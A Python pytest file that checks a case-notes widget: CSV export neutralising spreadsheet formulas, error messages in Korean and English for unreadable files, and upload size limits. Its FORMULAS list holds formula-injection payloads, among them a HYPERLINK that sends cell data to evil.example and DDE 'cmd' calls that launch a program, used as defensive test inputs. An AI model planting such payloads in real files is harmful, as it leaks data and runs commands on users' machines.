"""Case-notes files against what a hostile or careless file can hold.

* Case notes saved as CSV open safely in a spreadsheet: a value that would run as a formula is
  written with a leading ``'``, the file starts with a UTF-8 byte order mark, and the notes
  load back exactly.
* A case-notes file that cannot be read (a bare carriage return, a huge value, NUL bytes,
  random bytes) is refused with the case-notes message, in the visitor's language, never with
  the generic "something went wrong".
* A file over ``casenotes.MAX_BYTES`` is refused with a size message: by the kernel (widget
  tests) and, in Chromium, by the page before it is sent (a 12 MB file would otherwise drop
  the page's connection); the page keeps working afterwards.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import random
import re
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import astuple
from pathlib import Path

import pytest
from browser import PageFactory, artifact_path, full_page_screenshot
from playwright.sync_api import Locator, expect
from voila_server import VoilaServer

from widgets import casenotes
from widgets.view import GuideView

NOW = dt.datetime(2026, 11, 26, tzinfo=dt.timezone.utc)
HANGUL = re.compile(r"[\uac00-\ud7a3]")
HEADER = ",".join(casenotes.COLUMNS) + "\n"
#: Values a spreadsheet would run as formulas, as a visitor (or an attacker) could type them.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
#: Values that already start with the quote the writer adds, and one at the field limit.
QUOTED = ["'=already quoted", "''two quotes", "'plain", "'", "'-", "=" + "x" * (casenotes.MAX_FIELD - 1)]


def upload(view: GuideView, content: bytes, name: str = "notes.csv") -> None:
    """Load ``content`` through the notes panel's file upload, as the page sends it."""
    view.notes_panel.upload.value = ({"name": name, "type": "text/csv", "size": len(content),
                                "content": memoryview(content), "last_modified": NOW},)


def open_notes(lang: str) -> GuideView:
    view = GuideView(lang=lang).start()
    view.notes_panel.toggle.value = True
    return view


def status_text(view: GuideView) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", view.notes_panel.status.value))


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


# --------------------------------------------------------------------------- 1. formulas in CSV


def test_case_notes_csv_neutralises_formulas_and_loads_back_exactly() -> None:
    notes = [casenotes.make_note(when=FORMULAS[3], channel="chat", agent=FORMULAS[0],
                                 reference=FORMULAS[1], promised=FORMULAS[2]),
             casenotes.make_note(agent="김민지", reference="-123", promised="@home, +1 day")]
    text = casenotes.to_csv(notes)
    rows = csv_rows(text)
    assert rows[0] == list(casenotes.COLUMNS)
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert rows[1] == ["'" + FORMULAS[3], "chat", "'" + FORMULAS[0], "'" + FORMULAS[1],
                       "'" + FORMULAS[2]]
    assert rows[2] == ["", "", "김민지", "'-123", "'@home, +1 day"]
    for data in (text, text.encode("utf-8")):
        assert casenotes.parse(data) == notes


def test_case_notes_csv_round_trips_values_starting_with_a_quote() -> None:
    notes = [casenotes.make_note(agent=value, promised=value) for value in QUOTED]
    assert [n.agent for n in notes] == QUOTED  # clean() keeps them as typed
    text = casenotes.to_csv(notes)
    assert [row[2] for row in csv_rows(text)[1:]] == ["'" + value for value in QUOTED]
    assert casenotes.parse(text) == notes
    assert casenotes.parse(casenotes.to_markdown(notes)) == notes
    # only the quote the writer adds is removed: a hand-made cell "'abc" keeps its quote
    hand_made = HEADER + "'abc,'chat,'=x,''=y,'''\n"
    assert astuple(casenotes.parse(hand_made)[0]) == ("'abc", "'chat", "=x", "'=y", "''")


def test_case_notes_csv_has_a_bom_and_loads_with_or_without_it() -> None:
    notes = [casenotes.make_note(when="11월 26일", channel="phone", agent="박지민")]
    text = casenotes.to_csv(notes)
    assert text.startswith("\ufeff") and text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    bare = text.removeprefix("\ufeff")
    for data in (text, bare, text.encode("utf-8"), bare.encode("utf-8")):
        assert casenotes.parse(data) == notes


def test_case_notes_download_link_is_the_safe_csv() -> None:
    view = open_notes("ko")
    view.notes_panel.agent.value = FORMULAS[0]
    view.notes_panel.reference.value = FORMULAS[1]
    view.notes_panel.add_button.click()
    link = re.search(r"download='amazon-contact-notes.csv' href='data:text/csv;charset=utf-8,([^']+)'",
                     view.notes_panel.links.value)
    assert link, view.notes_panel.links.value
    data = urllib.request.unquote(link.group(1))
    assert data.startswith("\ufeff")
    assert csv_rows(data)[1][2:4] == ["'" + FORMULAS[0], "'" + FORMULAS[1]]
    fresh = open_notes("ko")
    upload(fresh, data.encode("utf-8"))
    assert fresh.notes_panel.notes == view.notes_panel.notes


# --------------------------------------------------------------------------- 2. parse errors


BAD_FILES = {
    "bare CR inside a field": (HEADER + "26 Nov\rlater,chat,Kim,R-1,refund\n").encode(),
    "a 129 KB field": (HEADER + "x" * (129 * 1024) + ",chat,Kim,R-1,refund\n").encode(),
    "a quoted 129 KB field": (HEADER + '"' + "y" * (129 * 1024) + '",chat,Kim,R-1,refund\n').encode(),
    "not UTF-8": b"\xff\xfe\x00w\x00h",
    "wrong columns": b"a,b\n1,2\n",
}


@pytest.mark.parametrize("name", list(BAD_FILES))
def test_unreadable_files_raise_case_notes_errors(name: str) -> None:
    with pytest.raises(casenotes.CaseNotesError) as caught:
        casenotes.parse(BAD_FILES[name])
    for lang in ("ko", "en"):
        reason = caught.value.explain(lang)
        assert reason and (HANGUL.search(reason) if lang == "ko" else not HANGUL.search(reason))


def test_parse_raises_nothing_but_case_notes_errors_on_garbage() -> None:
    rng = random.Random(7)
    alphabet = ["a", "김", ",", '"', "'", "\r", "\n", "\r\n", "|", "#", "\\", "\x00", "=", " ",
                "\ufeff", "-", "\t"]
    starts = ["", HEADER, "| a | b | c | d | e |\n|---|---|---|---|---|\n", "# 기록\n\n"]
    for _ in range(400):
        text = rng.choice(starts) + "".join(rng.choice(alphabet) for _ in range(rng.randrange(60)))
        data = text.encode("utf-8") if rng.random() < 0.5 else text
        if rng.random() < 0.1:
            data = bytes(rng.randrange(256) for _ in range(rng.randrange(40)))
        try:
            casenotes.parse(data)
        except casenotes.CaseNotesError:
            pass


@pytest.mark.parametrize("name", ["bare CR inside a field", "a 129 KB field", "not UTF-8"])
@pytest.mark.parametrize("lang", ["ko", "en"])
def test_view_shows_the_case_notes_error_not_the_generic_one(name: str, lang: str) -> None:
    view = open_notes(lang)
    view.notes_panel.agent.value = "Kim"
    view.notes_panel.add_button.click()
    upload(view, BAD_FILES[name])
    assert len(view.notes_panel.notes) == 1  # nothing lost
    assert view.notice.layout.display == "none" and not view.state.error, view.notice.value
    shown = status_text(view)
    prefix = casenotes.labels()["error"](lang).split("{reason}")[0]
    assert shown.startswith(prefix), shown
    reason = shown[len(prefix):]
    assert reason and (HANGUL.search(reason) if lang == "ko" else not HANGUL.search(reason)), shown


def test_korean_page_explains_in_korean_and_follows_a_language_switch() -> None:
    view = open_notes("ko")
    upload(view, b"a,b\n1,2\n")
    shown = status_text(view)
    assert shown.startswith("이 파일은 불러올 수 없어요: ")
    assert not re.search(r"expected|line \d|columns", shown), shown  # no English inside Korean
    view.language.value = "en"
    assert status_text(view).startswith("This file can’t be loaded: line 1: expected the columns")


# --------------------------------------------------------------------------- 3. upload size


def padded_csv(size: int) -> bytes:
    """A well-formed case-notes CSV of exactly ``size`` bytes (one note, a long padding row)."""
    head = (HEADER + "26 Nov,chat,Kim,R-1,refund\n").encode()
    return head + b"," * 4 + b"x" * (size - len(head) - 5) + b"\n"


@pytest.mark.parametrize("lang", ["ko", "en"])
@pytest.mark.parametrize("size", [casenotes.MAX_BYTES + 1 if hasattr(casenotes, "MAX_BYTES") else 256 * 1024 + 1,
                                  12 * 1024 * 1024])
def test_upload_over_the_limit_gets_the_size_message(lang: str, size: int) -> None:
    view = open_notes(lang)
    view.notes_panel.agent.value = "Lee"
    view.notes_panel.add_button.click()
    upload(view, padded_csv(size))
    assert len(view.notes_panel.notes) == 1 and not view.state.error
    expected = casenotes.error_message(casenotes.too_large())(lang)
    assert status_text(view) == expected
    assert ("파일이 너무 커요" in expected) if lang == "ko" else ("too large" in expected)
    assert f"{casenotes.MAX_BYTES // 1024} KB" in expected


def test_upload_at_the_limit_still_loads() -> None:
    view = open_notes("en")
    data = padded_csv(casenotes.MAX_BYTES)
    assert len(data) == casenotes.MAX_BYTES
    with pytest.raises(casenotes.CaseNotesError):  # the padding row is one long invalid row
        casenotes.parse(data)
    good = casenotes.to_csv([casenotes.make_note(agent="Kim")]).encode()
    upload(view, good + b"\n" * (casenotes.MAX_BYTES - len(good)))
    assert [n.agent for n in view.notes_panel.notes] == ["Kim"], status_text(view)


def test_the_page_gets_the_limit_and_message_from_the_guide() -> None:
    view = open_notes("ko")
    intro = view.notes_panel.intro.value
    limit = re.search(r"data-upload-limit='(\d+)'", intro)
    message = re.search(r"data-upload-too-large='([^']*)'", intro)
    assert limit and int(limit.group(1)) == casenotes.MAX_BYTES
    assert message and html.unescape(message.group(1)) == casenotes.error_message(casenotes.too_large())("ko")
    view.language.value = "en"
    message = re.search(r"data-upload-too-large='([^']*)'", view.notes_panel.intro.value)
    assert html.unescape(message.group(1)) == casenotes.error_message(casenotes.too_large())("en")
    assert "guide-notes-status" in view.notes_panel.status._dom_classes


# The same in Chromium: the page refuses the file before sending it.

@pytest.fixture(scope="module")
def hardening_server(voila_servers) -> Iterator[VoilaServer]:
    with voila_servers.guide() as server:
        yield server


def notes_panel(page, lang: str = "ko") -> Locator:
    page.get_by_role("button", name=casenotes.labels()["toggle"](lang), exact=True).click()
    panel = page.locator(".guide .guide-panel").filter(has_text=casenotes.texts().title(lang))
    expect(panel).to_be_visible()
    return panel


def choose_file(panel: Locator, path: Path, lang: str = "ko") -> None:
    button = panel.locator("button.widget-upload").filter(has_text=casenotes.labels()["load"](lang))
    with panel.page.expect_file_chooser() as chooser:
        button.click()
    chooser.value.set_files(str(path))


def test_page_refuses_a_12_mb_file_and_keeps_working(page_factory: PageFactory,
                                                     hardening_server: VoilaServer,
                                                     tmp_path: Path) -> None:
    hardening_server.wait_until_preheated(timeout=120)
    expect.set_options(timeout=20_000)
    big = tmp_path / "notes-12mb.csv"
    big.write_bytes(padded_csv(12 * 1024 * 1024))
    small = tmp_path / "notes.csv"
    small.write_text(casenotes.to_csv([casenotes.make_note(agent="박지민", reference="=1+1")]),
                     encoding="utf-8")
    page, guard = page_factory.new_page("case notes, a 12 MB file")
    try:
        page.goto(hardening_server.url, wait_until="commit")
        expect(page.locator(".guide")).to_be_visible(timeout=120_000)
        panel = notes_panel(page)
        headers = casenotes.texts().headers
        panel.get_by_label(headers["agent"]("ko"), exact=True).fill("김민지")
        page.get_by_role("button", name=casenotes.labels()["add"]("ko"), exact=True).click()
        cells = panel.locator(".guide-notes-table tr td")
        expect(cells).to_have_count(len(casenotes.COLUMNS))

        choose_file(panel, big)
        status = panel.get_by_role("status")
        expect(status).to_contain_text("파일이 너무 커요")  # the size message, in Korean
        expect(status).to_have_text(casenotes.error_message(casenotes.too_large())("ko"))
        full_page_screenshot(page, artifact_path("hardening-notes-too-large.png"))

        # the page still talks to its kernel: a click adds a note, a small file loads
        panel.get_by_label(headers["agent"]("ko"), exact=True).fill("Sam")
        page.get_by_role("button", name=casenotes.labels()["add"]("ko"), exact=True).click()
        expect(cells).to_have_count(2 * len(casenotes.COLUMNS))
        choose_file(panel, small)
        expect(panel.get_by_role("status")).to_have_text(casenotes.labels()["loaded"]("ko").format(count=1))
        expect(cells).to_have_count(3 * len(casenotes.COLUMNS))
        expect(cells.nth(2 * len(casenotes.COLUMNS) + 3)).to_have_text("=1+1")
        assert guard.clean, guard.report()
    finally:
        page_factory.close_page(page)
        expect.set_options(timeout=5_000)
